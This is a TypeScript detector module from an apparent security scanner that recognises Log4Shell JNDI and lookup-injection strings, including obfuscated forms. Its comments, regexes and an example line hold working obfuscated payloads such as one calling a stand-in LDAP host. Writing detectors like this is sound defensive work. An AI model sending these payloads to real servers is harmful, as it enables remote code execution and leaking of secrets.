/**
 * Log4Shell and other lookup injection: a `${...}` expression that a logging or templating library would evaluate,
 * above all `${jndi:ldap://...}` (CVE-2021-44228), which makes a Java server load code from the attacker.
 *
 * Obfuscation is undone by evaluating the lookups that only rebuild characters, innermost first, a bounded number of
 * times: `${lower:J}`, `${upper:n}`, `${:-j}`, `${::-d}`, `${env:NOPE:-i}`, `${date:'j'}`, `${sys:x:-y}`. Then a lookup whose
 * name is `jndi` (or a JNDI protocol right after `${`) fires; other lookups that leak data (`${env:`, `${sys:`,
 * `${java:`, `${main:`, `${ctx:`, `${k8s:`, `${docker:`, `${spring:`) fire with less confidence.
 */
import { evidenceAt } from './evidence.js';
import type { DetectorInput, PayloadFinding } from './types.js';

/** How many innermost lookups are evaluated per value. */
const MAX_LOOKUP_EVALUATIONS = 64;
/**
 * A lookup that only rebuilds characters. Log4j splits `${name:-default}` at the first `:-` and, when the name
 * resolves to nothing, yields the default: so any name works, the empty one included (`${:-j}`, `${::-j}`,
 * `${env:NOPE:-j}`, `${x:y:-j}`). `[^${}]` keeps the match innermost and each attempt linear.
 */
const CHAR_LOOKUP = /\$\{(?:[^${}]*?:-|lower:|upper:|date:|base64:)([^${}]*)\}/i;
const JNDI =
  /\$\{\s*(?:jndi|j\W{0,3}n\W{0,3}d\W{0,3}i)\s*:|\$\{\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http|https)\s*:\s*\//i;
const DATA_LOOKUP =
  /\$\{\s*(?:env|sys|java|main|ctx|k8s|docker|spring|bundle|web|jvmrunnerargs|log4j)\s*:[^}]{1,80}\}/i;

/** Evaluate the character-building lookups, innermost first. */
export function resolveLookups(text: string): string {
  let current = text;
  for (let i = 0; i < MAX_LOOKUP_EVALUATIONS; i++) {
    const m = CHAR_LOOKUP.exec(current);
    if (m === null) break;
    let replacement = m[1] ?? '';
    if (/^\$\{date:/i.test(m[0])) replacement = replacement.replace(/'/g, '');
    else if (/^\$\{lower:/i.test(m[0])) replacement = replacement.toLowerCase();
    else if (/^\$\{upper:/i.test(m[0])) replacement = replacement.toUpperCase();
    current = current.slice(0, m.index) + replacement + current.slice(m.index + m[0].length);
  }
  return current;
}

/**
 * Detect JNDI / lookup injection in one value (all its decoded forms).
 *
 * @example
 * detectJndi({ forms: ['${${lower:j}ndi:ldap://x.example/a}'] }); // { class: 'jndi', ... }
 * detectJndi({ forms: ['price: ${amount}'] });                     // undefined
 */
export function detectJndi(input: DetectorInput): PayloadFinding | undefined {
  let best: PayloadFinding | undefined;
  for (const form of input.forms) {
    const start = form.indexOf('${');
    if (start < 0) continue;
    const resolved = resolveLookups(form);
    const m = JNDI.exec(resolved) ?? JNDI.exec(form);
    if (m !== null) return { class: 'jndi', confidence: 0.95, evidence: evidenceAt(resolved, m.index, m[0].length) };
    const data = DATA_LOOKUP.exec(resolved);
    if (data !== null && best === undefined) {
      best = { class: 'jndi', confidence: 0.6, evidence: evidenceAt(resolved, data.index, data[0].length) };
    }
  }
  return best;
}
